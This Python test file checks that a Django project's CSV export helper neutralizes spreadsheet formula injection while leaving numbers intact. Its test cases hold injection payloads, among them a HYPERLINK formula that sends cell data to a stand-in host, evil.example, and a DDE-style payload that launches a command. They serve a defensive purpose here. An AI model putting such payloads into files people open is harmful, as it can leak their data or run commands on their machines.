"""CSV downloads open safely in a spreadsheet: formula-like text is quoted, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from exports.csv_safety import csv_writer, spreadsheet_safe

PROJECT_DIR = Path(__file__).resolve().parents[2]
# Writers that must stay byte-exact: path -> why.
BYTE_EXACT: dict[str, str] = {
    # The seed queries file is input for the NativQA collection tool, which sends each query to a search engine
    # as written: a leading ' would change the query. It is a tool's input, not a table for people to open.
    "validation/services.py": "seed_queries_csv: input of the collection tool, queries must stay as written",
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("#ERROR!", "#ERROR!"),  # the study's data carries these; '#' starts no formula
        ("'=already quoted", "'=already quoted"),
        ("a=b", "a=b"),
        (" =1+2", " =1+2"),
        ("茶餐廳", "茶餐廳"),
        ("", ""),
        ("-0.25", "-0.25"),  # a number written as text is still a number
        ("+3", "+3"),
        ("-1e-5", "-1e-5"),
        ("-.5", "-.5"),
    ],
)
def test_formula_like_text_is_quoted_and_everything_else_is_kept(cell, written):
    assert spreadsheet_safe(cell) == written


@pytest.mark.parametrize("number", [-0.31, -1, 0, 2.5, Decimal("-0.125"), True, None])
def test_numbers_stay_numbers(number):
    assert spreadsheet_safe(number) is number


def test_the_writer_quotes_cells_and_keeps_numbers_unquoted_in_the_file():
    out = io.StringIO()

    csv_writer(out).writerows([["rater", "kappa", "note"], ["=cmd()", -0.31, "#ERROR!"], ["@a", 0.5, "-x"]])

    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["rater", "kappa", "note"], ["'=cmd()", "-0.31", "#ERROR!"], ["'@a", "0.5", "'-x"]]


def test_the_calculator_csv_download_quotes_a_rater_called_like_a_formula(client, annotator):
    client.force_login(annotator)
    ratings = "unit,rater,value\nq1,=HYPERLINK(1),pass\nq1,@bob,pass\nq2,=HYPERLINK(1),flag\nq2,@bob,pass\n"
    upload = SimpleUploadedFile("ratings.csv", ratings.encode(), content_type="text/csv")
    assert (
        client.post(
            reverse("agreement_calculator"), {"ratings": upload, "level": "nominal", "bootstrap": 10, "seed": 1}
        ).status_code
        == 200
    )

    response = client.get(reverse("agreement_calculator_download", kwargs={"fmt": "csv"}))

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(1)" in cells and "'@bob" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    negative = [cell for cell in cells if cell.startswith("-")]
    assert all(re.fullmatch(r"-[\d.e-]+", cell) for cell in negative), negative  # only numbers start with '-'


def test_every_csv_writer_in_the_code_goes_through_the_helper():
    pattern = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = []
    for path in PROJECT_DIR.rglob("*.py"):
        relative = path.relative_to(PROJECT_DIR).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/")) or relative == "exports/csv_safety.py":
            continue
        if relative not in BYTE_EXACT and pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert not offenders, f"Write CSV with exports.csv_safety.csv_writer: {offenders}"
